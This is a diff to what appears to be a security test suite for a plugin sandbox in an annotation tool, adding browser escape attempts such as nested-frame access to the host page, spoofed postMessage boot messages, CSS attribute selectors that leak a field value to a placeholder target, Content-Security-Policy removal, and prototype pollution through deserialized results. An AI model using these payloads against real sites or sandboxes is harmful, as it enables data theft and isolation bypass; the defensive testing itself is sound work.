@@ -53,6 +53,60 @@ export const PAGE_ATTEMPTS: readonly EscapeAttempt[] = [
       return frame.contentDocument`,
   },
   {
+    what: 'reach the page through a frame in a frame',
+    code: `const inner = '<iframe src="${location.origin}/"></iframe>';
+      const frame = document.createElement('iframe');
+      frame.srcdoc = inner;
+      document.body.append(frame);
+      await new Promise((resolve) => { frame.onload = resolve; });
+      return frame.contentWindow[0].document`,
+  },
+  {
+    what: 'lift its sandbox through a frame of its own',
+    code: `const frame = document.createElement('iframe');
+      frame.sandbox = 'allow-same-origin allow-scripts allow-top-navigation';
+      frame.srcdoc = '<script>top.lsEscaped = 1</script>';
+      document.body.append(frame);
+      await new Promise((resolve) => { frame.onload = resolve; });
+      return frame.contentDocument`,
+  },
+  {
+    what: 'share memory, with which it could measure time',
+    code: 'return crossOriginIsolated || new SharedArrayBuffer(8)',
+  },
+  {
+    what: 'listen on a channel of the page',
+    code: `return await new Promise((resolve, reject) => {
+      new BroadcastChannel('ls-escape').onmessage = resolve;
+      new BroadcastChannel('ls-escape-out').postMessage(1);
+      setTimeout(reject, 50);
+    })`,
+  },
+  {
+    what: 'pass for the host to its own runtime',
+    code: `const {port1, port2} = new MessageChannel();
+      postMessage({type: 'ls-annotation-boot', policy: "default-src *",
+        nonce: 'x', runtime: 'self.lsEscaped = 1'}, '*', [port1, port2]);
+      await new Promise((resolve) => setTimeout(resolve, 20));
+      return self.lsEscaped`,
+  },
+  {
+    what: 'pass for another plugin to the page',
+    code: `const {port1, port2} = new MessageChannel();
+      parent.postMessage({type: 'ls-annotation-boot'}, '*', [port1]);
+      top.postMessage({type: 'write', number: 1, operations: []}, '*');
+      for (let i = 0; i < top.length; i++) {
+        top[i].postMessage({type: 'ls-annotation-boot'}, '*');
+      }
+      return await new Promise((resolve, reject) => {
+        port2.onmessage = resolve; setTimeout(reject, 50);
+      })`,
+  },
+  {
+    what: 'put names on the page by the name of its window',
+    code: "self.name = 'Htx'; return top.frames.Htx === self && top.Htx === self",
+  },
+  {
     what: 'take the origin of the page',
     code: 'document.domain = "localhost"; return top.document',
   },
@@ -108,6 +162,27 @@ export const NAVIGATION_ATTEMPTS: readonly EscapeAttempt[] = [
       form.action = '${TARGET}form';
       document.body.append(form); form.submit(); return false`,
   },
+  {
+    what: 'open a window with what it knows, by the middle button',
+    code: `const a = document.createElement('a');
+      a.href = '${TARGET}link-middle'; document.body.append(a);
+      a.dispatchEvent(new MouseEvent('click', {button: 1, ctrlKey: true}));
+      return false`,
+  },
+  {
+    what: 'submit a form to a window',
+    code: `const form = document.createElement('form');
+      form.action = '${TARGET}form-blank'; form.target = '_blank';
+      form.method = 'post';
+      document.body.append(form); form.requestSubmit(); return false`,
+  },
+  {
+    what: 'keep the person from leaving the page',
+    code: `addEventListener('beforeunload', (event) => event.preventDefault());
+      top.onbeforeunload = () => 'stay'; return true`,
+  },
+  {what: 'stop the page from loading', code: 'top.stop(); return true'},
+  {what: 'print the page', code: 'top.print(); return true'},
   {what: 'go back in the history of the page', code: 'top.history.back()'},
   {what: 'close the page', code: 'top.close(); return top.closed'},
 ].map((attempt) => ({...attempt, ...IN_DOCUMENT}));
@@ -248,8 +323,93 @@ const ANYWHERE: readonly Omit<EscapeAttempt, 'slot'>[] = [
   },
 ];
 
+const STYLED = {
+  'a cursor': 'cursor',
+  'a filter': 'filter',
+  'a mask': 'mask-image',
+  'a list': 'list-style-image',
+  'a border': 'border-image-source',
+  'a clip': 'clip-path',
+};
+
 /** Ways into the network by elements and styles. */
 const BY_ELEMENTS = [
+  ...Object.entries(STYLED).map(([what, property]) => ({
+    what: `ask by the style of ${what}`,
+    act: `document.body.append('x');
+      document.body.style.display = 'list-item';
+      document.body.style.setProperty('${property}',
+        'url(${TARGET}css-${property}#x)');
+      document.body.getBoundingClientRect();`,
+    isSilent: ![
+      'mask-image',
+      'list-style-image',
+      'border-image-source',
+    ].includes(property),
+  })),
+  {
+    what: 'tell what stands in a field by a style',
+    act: `document.body.innerHTML = '<input value="secret">';
+      const style = document.createElement('style');
+      style.textContent = 'input[value^="s"] {' +
+        'background: url(${TARGET}css-value-s) }';
+      document.head.append(style);
+      document.body.getBoundingClientRect();`,
+  },
+  {
+    what: 'load a picture for another width',
+    act: `document.body.innerHTML = '<img srcset="${TARGET}srcset 1x">';`,
+  },
+  {
+    what: 'have a button that is a picture',
+    act: `document.body.innerHTML = '<input type="image" src="${TARGET}input">';`,
+  },
+  {
+    what: 'show words to a video',
+    act: `document.body.innerHTML = '<video crossorigin="anonymous"><track ' +
+        'default kind="captions" src="${TARGET}track"></video>';
+      document.querySelector('track').track.mode = 'showing';`,
+    isSilent: true,
+  },
+  {
+    what: 'show the poster of a video',
+    act: `document.body.innerHTML = '<video poster="${TARGET}poster"></video>';`,
+  },
+  {
+    what: 'use a drawing from elsewhere',
+    act: `document.body.innerHTML =
+      '<svg><use href="${TARGET}use.svg#x"/></svg>';`,
+    isSilent: true,
+  },
+  {
+    what: 'tell that a link was followed',
+    act: `const a = document.createElement('a');
+      a.href = '#here'; a.ping = '${TARGET}ping';
+      document.body.append(a); a.click();`,
+  },
+  {
+    what: 'have requests made when it is gone',
+    act: `globalThis.fetchLater?.('${TARGET}later', {activateAfter: 0});`,
+    isSilent: true,
+  },
+  {
+    what: 'map names of modules to elsewhere',
+    act: `const map = document.createElement('script');
+      map.type = 'importmap';
+      map.textContent = JSON.stringify({imports: {x: '${TARGET}mapped.js'}});
+      document.head.append(map);
+      await import('x').catch(() => {});`,
+    isSilent: true,
+  },
+  {
+    what: 'move its policy out of the way',
+    act: `document.querySelectorAll('meta').forEach((meta) => meta.remove());
+      const meta = document.createElement('meta');
+      meta.httpEquiv = 'Content-Security-Policy';
+      meta.content = "default-src * 'unsafe-inline'";
+      document.head.append(meta);
+      new Image().src = '${TARGET}no-policy';`,
+  },
   ...[
     'prefetch',
     'preload',
@@ -393,6 +553,64 @@ export const UI_ATTEMPTS: readonly EscapeAttempt[] = [
     code: `await navigator.clipboard.writeText('escaped'); return true`,
   },
   {
+    what: 'take the pointer of a drag out of its frame',
+    code: `document.body.innerHTML = '<b draggable="true">x</b>';
+      const data = new DataTransfer();
+      data.setData('text/uri-list', '${TARGET}drag');
+      top.dispatchEvent(new DragEvent('drop', {dataTransfer: data}));
+      return true`,
+  },
+  {
+    what: 'play a sound without being asked',
+    code: `const context = new AudioContext();
+      context.resume().catch(() => {});
+      await new Promise((resolve) => setTimeout(resolve, 50));
+      return context.state === 'running'`,
+  },
+  {
+    what: 'stand over other windows',
+    code: 'return await documentPictureInPicture.requestWindow()',
+  },
+  {
+    what: 'move the window',
+    code: 'top.moveTo(0, 0); top.resizeTo(9, 9); return true',
+  },
+  {
+    what: 'keep the screen awake',
+    code: "return await navigator.wakeLock.request('screen')",
+  },
+  {
+    what: 'record the screen',
+    code: 'return await navigator.mediaDevices.getDisplayMedia()',
+  },
+  {
+    what: 'share with other programs',
+    code: "await navigator.share({url: 'x:'}); return true",
+  },
+  {what: 'open files', code: 'return await showOpenFilePicker()'},
+  {what: 'save files', code: 'return await showSaveFilePicker()'},
+  {
+    what: 'ask for the storage of the page',
+    code: 'await document.requestStorageAccess(); return true',
+  },
+  {
+    what: 'ask for a password',
+    code: 'return await navigator.credentials.get({password: true})',
+  },
+  {
+    what: 'find devices',
+    code: 'return await navigator.usb.requestDevice({filters: []})',
+  },
+  {
+    what: 'show another colour scheme or title for the page',
+    code: `top.document.title = 'escaped'; return true`,
+  },
+  {
+    what: 'make the page hear a key',
+    code: `top.dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter'}));
+      return true`,
+  },
+  {
     what: 'offer a download',
     code: `const a = document.createElement('a');
       a.href = 'data:text/plain,escaped'; a.download = 'escaped.txt';
@@ -505,6 +723,23 @@ export const STATE_ATTEMPTS: readonly EscapeAttempt[] = [
     what: 'type for a person',
     code: `LSI.annotation.names.get('text').setRemoteValue('escaped'); return true`,
     permissions: ['write:own', 'veto'],
+  },
+  {
+    what: 'make a region with the id of another',
+    code: `LSI.annotation.deserializeResults([{id: 'a', from_name: 'label',
+      to_name: 'text', type: 'labels',
+      value: {start: 0, end: 1, labels: ['PER']}}]);
+      return false`,
+    permissions: ['modal'],
+  },
+  {
+    what: 'reach into prototypes by what it writes',
+    code: `LSI.annotation.deserializeResults(JSON.parse(
+      '[{"id": "__proto__", "from_name": "label", "to_name": "text",' +
+      '"type": "labels", "value": {"start": 0, "end": 2, "labels": ["PER"]},' +
+      '"meta": {"__proto__": {"lsEscaped": 1}}}]'));
+      return false`,
+    permissions: ['modal'],
   },
   {
     what: 'change the task that others see',
